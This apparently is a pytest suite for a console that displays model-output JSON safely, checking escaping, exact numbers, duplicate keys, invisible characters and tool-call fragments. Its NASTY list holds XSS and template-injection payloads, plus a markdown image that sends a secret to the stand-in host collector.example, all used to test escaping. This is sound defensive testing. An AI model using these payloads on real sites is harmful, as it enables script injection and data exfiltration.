"""Attacker-written content as a page shows it: escaped, whole or said to be cut, and never computed with."""

import json

import pytest

from console.showing.views import Showing, View, show


def html(showing: Showing) -> str:
    """Everything of a showing that reaches a page."""
    return str(showing)


def output(*items: object, **more: object) -> bytes:
    choice = {"index": 0, "role": "assistant", "items": items, "finish": None}
    return json.dumps({"schema": "observable-output/1", "choices": [choice], **more}).encode()


@pytest.mark.parametrize("view", list(View))
@pytest.mark.parametrize(
    "digits",
    ["9007199254740993", "18446744073709551616", "-9223372036854775809", "1E100000", "0.10", "1" * 6000],
)
def test_digits_are_those_that_stand_there(view, digits):
    assert digits in html(show(b'{"order_id":%s}' % digits.encode(), view))


def test_arguments_of_a_call_are_never_written_anew():
    raw = '{ "id":9007199254740993 ,"id":1e0}'
    call = {
        "type": "tool_call",
        "id": None,
        "name": "order",
        "arguments": {"raw": raw, "state": "valid-json"},
    }
    (message,) = show(output(call), View.PRETTY).layout.messages  # type: ignore[union-attr]
    (block,) = message.blocks
    assert (block.kind, block.name, block.plain) == ("tool call", "order", raw)
    assert [(fact.name, fact.value) for fact in block.facts] == [("Id", None), ("Arguments", "valid-json")]


def test_tokens_that_nobody_counted_are_unknown_and_zero_is_zero():
    usage = {"input": 0, "output": None, "source": "provider"}
    layout = show(output(usage=usage), View.PRETTY).layout
    assert layout is not None
    said = {fact.name: fact.value for fact in layout.facts}
    assert (said["Input tokens"], said["Output tokens"], said["Reasoning tokens"]) == ("0", None, None)


@pytest.mark.parametrize("view", list(View))
@pytest.mark.parametrize("depth", [101, 1_000, 100_000])
def test_depth_breaks_nothing(view, depth):
    content = b"[" * depth + b"]" * depth
    showing = show(content, view)
    assert (showing.layout, showing.text, showing.left) == (None, content.decode(), 0)


def test_keys_that_stand_twice_are_both_shown_and_marked_and_nothing_is_picked_out():
    content = b'{"model":"model-a","messages":[],"\\u006dodel":"model-b","run_id":"r-1","run_id":"r-2"}'
    showing = show(content, View.PRETTY)
    assert showing.layout is None
    assert html(showing).count("this key stands here more than once") == 4
    assert all(word in showing.text for word in ("model-a", "model-b", "r-1", "r-2", "\\u006dodel"))
    assert "Keys stand more than once" in showing.remarks[0]


def test_an_unknown_shape_and_an_empty_object_are_shown_as_what_they_are():
    assert show(b"{}", View.PRETTY).text == "{}"
    assert show(b"", View.RAW).size == 0
    odd = show(b'{"realtime":{"x":[1,{"y":"z"}]}}', View.PRETTY)
    assert odd.text.replace(' <span class="key">', "").count("realtime") == 1


NASTY = [
    '<iframe srcdoc="<script>alert(1)</script>">',
    "<img src=x onerror=alert(1)>",
    "![x](https://collector.example/?q=SECRET)",
    "</pre></main><form action=//collector.example>",
    "{{ 7 * 7 }}{% raw %}",
    "'\"><svg/onload=alert(1)>",
]


@pytest.mark.parametrize("text", NASTY)
@pytest.mark.parametrize("view", list(View))
def test_markup_in_content_stays_text(text, view):
    for content in (
        text.encode(),
        json.dumps({text: text}).encode(),
        json.dumps(
            {"messages": [{"role": text, "content": text, text: text}], "tools": [{"name": text}]}
        ).encode(),
        output(
            {"type": "tool_call", "name": text, "arguments": {"raw": text, "state": text}}, {"type": text}
        ),
        f"event: {text}\ndata: {text}\n\n".encode(),
    ):
        shown = show(content, view)
        pieces = _markup(shown)
        assert pieces
        for piece in pieces:
            without_ours = piece.replace('<span class="key">', "").replace("</span>", "")
            assert "<" not in without_ours, piece


@pytest.mark.parametrize(
    ("character", "mark"),
    [("\x00", "U+0000"), ("\x1b", "U+001B"), ("\u202e", "U+202E"), ("\u200b", "U+200B"), ("\ud83d", "U+D83D"),
     ("\U000e0041", "U+E0041"), ("\u00a0", "U+00A0"), ("\ufeff", "U+FEFF")],
)  # fmt: skip
def test_what_cannot_be_seen_is_marked(character, mark):
    content = json.dumps({"messages": [{"role": "user", "content": f"a{character}b"}]}).encode()
    layout = show(content, View.PRETTY).layout
    assert layout is not None
    assert mark in layout.messages[0].blocks[0].html
    if character != "\ud83d":
        assert mark in show(f"a{character}b".encode(), View.RAW).text


def test_very_many_marks_are_bounded_and_the_rest_is_said():
    showing = show(b"\x00\x01" * 100_000, View.PRETTY)
    assert len(showing.text) < 1 << 20
    assert showing.left == 190_000
    assert show(b"\x00" * 100_000, View.RAW).left == 0


@pytest.mark.parametrize("content", [b'{"text":"\xed\xa0\xbd"}', b"\xff\xfe{\x00}\x00", b"\x00\x01\xff"])
def test_bytes_that_are_not_utf_8_are_bytes(content):
    showing = show(content, View.PRETTY)
    assert showing.opaque
    assert content[:8].hex(" ") in showing.text


def test_a_file_in_a_message_is_type_and_size():
    picture = "iVBOR" + "A" * 8_000
    part = {"type": "image_url", "image_url": {"url": f"data:image/png;base64,{picture}"}}
    content = json.dumps({"messages": [{"role": "user", "content": [part]}]}).encode()
    layout = show(content, View.PRETTY).layout
    assert layout is not None
    (block,) = layout.messages[0].blocks
    assert (block.kind, "image/png, 5.9 KiB" in block.html, picture in block.html) == ("media", True, False)
    assert picture in show(content, View.RAW).text


def test_pieces_of_a_call_are_cut_where_they_came():
    fragments = [{"seq": 4, "n": 5}, {"seq": 6, "n": None}, {"seq": 7, "n": 2, "missing": ["index"]}]
    call = {
        "type": "tool_call",
        "name": "f",
        "arguments": {"raw": '{"\U0001f600":1}', "fragments": fragments},
    }
    other = {"type": "tool_call", "name": "g", "arguments": {"raw": "[]", "fragments": [{"seq": 5, "n": 2}]}}
    stream = show(output(call, other), View.STREAM).stream
    assert stream is not None
    assert [(piece.chunk, piece.of, piece.text) for piece in stream.pieces] == [
        ("4", "0 f", "{&#34;\U0001f600&#34;:"), ("5", "1 g", "[]"), ("6", "0 f", ""), ("7", "0 f", "1}"),
    ]  # fmt: skip
    assert [piece.odd for piece in stream.pieces] == ["", "", "arguments null", "missing [&#34;index&#34;]"]


def test_pieces_that_do_not_add_up_are_said():
    call = {"type": "tool_call", "arguments": {"raw": "12345", "fragments": [{"seq": 1, "n": 3}]}}
    assert "pieces of 3 characters are told, and 5 are kept" in " ".join(
        show(output(call), View.STREAM).remarks
    )


def test_nothing_of_a_message_is_left_out():
    content = json.dumps(
        {"model": "m", "temperature": 0.25, "tools": [{"name": "t", "odd": "C-3"}],
         "messages": [{"role": "user", "content": [{"type": "text", "text": "hi", "cache": "C-1"}], "x": "C-2"}]}
    )  # fmt: skip
    shown = " ".join(_markup(show(content.encode(), View.PRETTY)))
    assert all(word in shown for word in ("m", "user", "hi", "C-1", "C-2", "C-3", "0.25"))


def _markup(showing: Showing) -> list[str]:
    """Every piece that a template puts into a page unescaped."""
    pieces = [str(showing.text)]
    for message in [] if showing.layout is None else showing.layout.messages + showing.layout.rest:
        pieces += [message.role if hasattr(message.role, "__html__") else ""]
        for block in message.blocks:
            pieces += [
                str(block.html),
                str(block.more),
                block.name,
                *(str(fact.value) for fact in block.facts),
            ]
            assert hasattr(block.name, "__html__")
    for piece in [] if showing.stream is None else showing.stream.pieces:
        pieces += [str(piece.chunk), str(piece.of), str(piece.text), str(piece.odd)]
    return [piece for piece in pieces if piece]
